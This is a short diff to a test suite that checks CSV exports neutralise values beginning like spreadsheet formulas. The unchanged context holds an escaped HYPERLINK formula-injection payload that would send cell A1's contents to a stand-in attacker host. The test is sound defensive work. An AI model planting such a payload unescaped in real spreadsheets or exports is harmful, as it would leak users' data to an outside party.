@@ -92,7 +92,7 @@ describe('reservoir export → import with values beginning like formulas', () =
     const files = readFolder(out1);
     const reversalsCsv = files['reversals.csv']!.toString('utf8');
     expect(reversalsCsv).toContain(`,"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"\r\n`);
-    expect(files['removals.csv']!.toString('utf8')).toContain(`,"''-already an apostrophe\n@second line"\r\n`);
+    expect(files['removals.csv']!.toString('utf8')).toContain(`,"''-already an apostrophe\n@second line",\r\n`);
     for (const [name, bytes] of Object.entries(files)) {
       for (const cell of (parse(bytes, { bom: true, relax_column_count: true }) as string[][]).flat()) expect(cell, name).not.toMatch(FORMULA);
     }
